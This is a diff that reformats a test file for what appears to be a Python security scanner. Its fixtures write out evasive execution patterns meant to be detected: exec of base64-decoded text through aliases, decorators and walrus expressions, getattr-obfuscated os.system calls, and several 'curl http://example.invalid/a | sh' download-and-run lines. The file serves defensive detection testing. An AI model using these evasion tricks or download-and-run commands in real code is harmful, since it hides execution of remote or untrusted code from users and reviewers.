@@ -15,14 +15,23 @@ PAGE = Path(__file__).parents[2] / "docs/reference/checks.md"
 
 FOUND = {
     "alias": (f"import base64\nrun = exec\nrun(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
-    "alias_of_builtins": (f"import base64\nfrom builtins import exec as go\ngo(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
+    "alias_of_builtins": (
+        f"import base64\nfrom builtins import exec as go\ngo(base64.b64decode('{CODE}'))\n",
+        "run_of_decoded_text",
+    ),
     "two_aliases": (f"import base64 as b\na = b\nc = a.b64decode\nd = exec\nd(c('{CODE}'))\n", "run_of_decoded_text"),
     "dunder_call": (f"import base64\nexec.__call__(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
     "list_of_runners": (f"import base64\n[exec][0](base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
     "map": (f"import base64\nlist(map(exec, [base64.b64decode('{CODE}')]))\n", "runner_as_value"),
-    "decorator": (f"import base64\n\n\n@exec\n@base64.b64decode\nclass A:\n    pass\n\n\nbase64.b64decode('{CODE}')\n", "runner_as_value"),
+    "decorator": (
+        f"import base64\n\n\n@exec\n@base64.b64decode\nclass A:\n    pass\n\n\nbase64.b64decode('{CODE}')\n",
+        "runner_as_value",
+    ),
     "walrus": (f"import base64\nif (run := exec):\n    run(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
-    "default_argument": (f"import base64\n\n\ndef f(run=exec, text=base64.b64decode('{CODE}')):\n    run(text)\n", "run_of_decoded_text"),
+    "default_argument": (
+        f"import base64\n\n\ndef f(run=exec, text=base64.b64decode('{CODE}')):\n    run(text)\n",
+        "run_of_decoded_text",
+    ),
     "nested_functions": (
         (
             "def a():\n    def b():\n        import base64\n\n        def c():\n"
@@ -31,20 +40,50 @@ FOUND = {
         "run_of_decoded_text",
     ),
     "class_body": (f"import base64\n\n\nclass A:\n    exec(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
-    "star_import": (f"from base64 import *\nfrom builtins import *\nexec(b64decode('{CODE}'))\n", "run_of_decoded_text"),
+    "star_import": (
+        f"from base64 import *\nfrom builtins import *\nexec(b64decode('{CODE}'))\n",
+        "run_of_decoded_text",
+    ),
     "star_import_of_os": ("from os import *\nsystem('curl http://example.invalid/a | sh')\n", "download_and_run"),
-    "conditional_import": ("import os as o, sys\nx = o if sys else None\ngetattr(x, 'sys' 'tem')('id')\n", "hidden_call"),
+    "conditional_import": (
+        "import os as o, sys\nx = o if sys else None\ngetattr(x, 'sys' 'tem')('id')\n",
+        "hidden_call",
+    ),
     "exec_of_exec": ("exec('exec(\"import os; getattr(os, chr(115) + \\'ystem\\')(1)\")')\n", "hidden_call"),
-    "string_in_a_list": ("import subprocess\nsubprocess.run(['bash', '-c'] + ['curl http://example.invalid/a|sh'])\n", "download_and_run"),
-    "percent_format": ("import os\nos.system('%s http://example.invalid/a | %s' % ('curl', 'sh'))\n", "download_and_run"),
-    "join_of_letters": ("import os\nos.system(''.join(['cu', 'rl', ' http://example.invalid/a | s', 'h']))\n", "download_and_run"),
+    "string_in_a_list": (
+        "import subprocess\nsubprocess.run(['bash', '-c'] + ['curl http://example.invalid/a|sh'])\n",
+        "download_and_run",
+    ),
+    "percent_format": (
+        "import os\nos.system('%s http://example.invalid/a | %s' % ('curl', 'sh'))\n",
+        "download_and_run",
+    ),
+    "join_of_letters": (
+        "import os\nos.system(''.join(['cu', 'rl', ' http://example.invalid/a | s', 'h']))\n",
+        "download_and_run",
+    ),
     "bytes": ("import os\nos.system(b'curl http://example.invalid/a | sh')\n", "download_and_run"),
-    "dict_of_functions": ("import os\n{'a': os.system}['a']('curl http://example.invalid/a | sh')\n", "download_and_run"),
-    "timeit": (f"import base64, timeit\ntimeit.timeit(base64.b64decode('{CODE}').decode(), number=1)\n", "run_of_decoded_text"),
-    "name_at_run_time": ("import importlib\n\n\ndef f(name):\n    return importlib.import_module(name)\n", "import_unknown"),
+    "dict_of_functions": (
+        "import os\n{'a': os.system}['a']('curl http://example.invalid/a | sh')\n",
+        "download_and_run",
+    ),
+    "timeit": (
+        f"import base64, timeit\ntimeit.timeit(base64.b64decode('{CODE}').decode(), number=1)\n",
+        "run_of_decoded_text",
+    ),
+    "name_at_run_time": (
+        "import importlib\n\n\ndef f(name):\n    return importlib.import_module(name)\n",
+        "import_unknown",
+    ),
     "exec_of_input": ("def f(text):\n    exec(text)\n", "run_of_text"),
-    "exec_of_a_file": ("from pathlib import Path\nexec(Path(__file__).with_name('data.txt').read_text())\n", "run_of_text"),
-    "builtins_by_name": ("import builtins\n\n\ndef f(name, text):\n    return getattr(builtins, name)(text)\n", "hidden_attribute"),
+    "exec_of_a_file": (
+        "from pathlib import Path\nexec(Path(__file__).with_name('data.txt').read_text())\n",
+        "run_of_text",
+    ),
+    "builtins_by_name": (
+        "import builtins\n\n\ndef f(name, text):\n    return getattr(builtins, name)(text)\n",
+        "hidden_attribute",
+    ),
     "posix": ("import posix\nposix.system('curl http://example.invalid/a | sh')\n", "download_and_run"),
     "getattribute": ("import os\nos.__getattribute__('system')('id')\n", "hidden_call"),
     "type_of_object": ("object.__subclasses__()\n", "escape_by_subclasses"),
@@ -56,13 +95,17 @@ FOUND = {
 }
 OUTSIDE = {
     "a pickle read from an upload": "import pickle\n\n\ndef f(model):\n    return pickle.load(model.open('rb'))\n",
-    "a name from a configuration file": "import json\n\n\ndef f(config):\n    return globals()[json.load(config.open())['law']]\n",
+    "a name from a configuration file": (
+        "import json\n\n\ndef f(config):\n    return globals()[json.load(config.open())['law']]\n"
+    ),
 }
 
 
 def findings(folder: Path, source: str) -> list[Finding]:
     write_package(folder, {"main.py": source})
-    return [Finding.from_json(one) for one in read_file("main.py", str(folder), Order(frozenset(SCANNED), 60))["findings"]]
+    return [
+        Finding.from_json(one) for one in read_file("main.py", str(folder), Order(frozenset(SCANNED), 60))["findings"]
+    ]
 
 
 @pytest.mark.parametrize("name", FOUND)
